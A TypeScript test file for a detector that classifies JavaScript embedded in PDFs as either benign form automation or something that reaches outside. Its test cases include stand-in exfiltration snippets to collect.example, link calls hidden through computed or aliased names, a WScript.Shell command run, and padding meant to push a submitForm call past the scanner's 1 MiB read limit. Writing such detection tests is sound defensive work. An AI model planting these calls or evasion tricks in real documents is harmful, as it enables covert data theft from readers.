import { describe, expect, it } from "vitest";
import { defaultBudget } from "../../limits";
import { isFormAutomation, urlAssignments } from "./form-automation";
import { scriptSignals } from "./script-signals";

describe("urlAssignments", () => {
  it("finds the addresses a script assigns to names, with either quote and spaces or a line break around '='", () => {
    const source = [
      'ADBE.Reader_Value_New_Version_URL = "http://www.adobe.com/go/getreader";',
      "var u='https://evil.example/a?b=1';",
      'cUrl =\n  "http://second.example/x"; cUrl = "http://third.example/y"',
    ].join("\n");
    expect(Object.fromEntries(urlAssignments(source))).toEqual({
      "ADBE.Reader_Value_New_Version_URL": ["http://www.adobe.com/go/getreader"],
      u: ["https://evil.example/a?b=1"],
      cUrl: ["http://second.example/x", "http://third.example/y"],
    });
  });

  it("ignores addresses passed to calls, unquoted or compared, and text that only starts like one", () => {
    const source =
      'app.launchURL("http://a.example/"); if (x == "http://b.example/") y(); z = http; w = "httpx://c"; v = "http:/d"';
    expect(urlAssignments(source).size).toBe(0);
  });
});

describe("isFormAutomation", () => {
  const formScript =
    'var total = this.getField("a").value + this.getField("b").value;\nthis.getField("sum").value = util.printf("%.2f", total);\n';
  const explained = (source: string) => isFormAutomation(source, scriptSignals(source, defaultBudget()));

  it("explains a script that formats and sums fields", () => {
    expect(explained(formScript)).toBe(true);
  });

  it.each([
    ["a browser request", 'var r = new XMLHttpRequest(); r.open("GET", "https://collect.example/x");'],
    ["a media fetch", 'app.media.getURLData("https://collect.example/a.wav", "audio/wav");'],
    ["a file write", 'this.exportAsText(true, null, "/c/temp/fields.txt");'],
    ["an XFA data import", 'xfa.host.importData("/c/data/answers.xml");'],
    ["a computed link call", 'this["getURL"]("https://collect.example/x");'],
    [
      "a link API taken as a value and called by another name",
      'var go = this.getURL; go("https://collect.example/x");',
    ],
    ["an image beacon", 'var i = new Image(); i.src = "https://collect.example/p.gif";'],
    ["a Windows Script Host shell", 'var sh = new ActiveXObject("WScript.Shell"); sh.Run("calc.exe");'],
    ["a Foxit web page opening", 'app.opencPDFWebPage("https://collect.example/x");'],
  ])("does not explain a form script that also makes %s (the callback and file-write lists decide)", (_name, call) => {
    expect(explained(`${formScript}${call}`)).toBe(false);
  });

  it("does not explain a form script whose outward call is padded past what it reads (1 MiB)", () => {
    const padding = formScript.repeat(Math.ceil((1024 * 1024) / formScript.length));
    expect(explained(`${padding}this.submitForm("http://collector.example/a");`)).toBe(false);
    // the same padding without the call is not explained either: an explanation needs the whole script read
    expect(explained(padding)).toBe(false);
  });
});
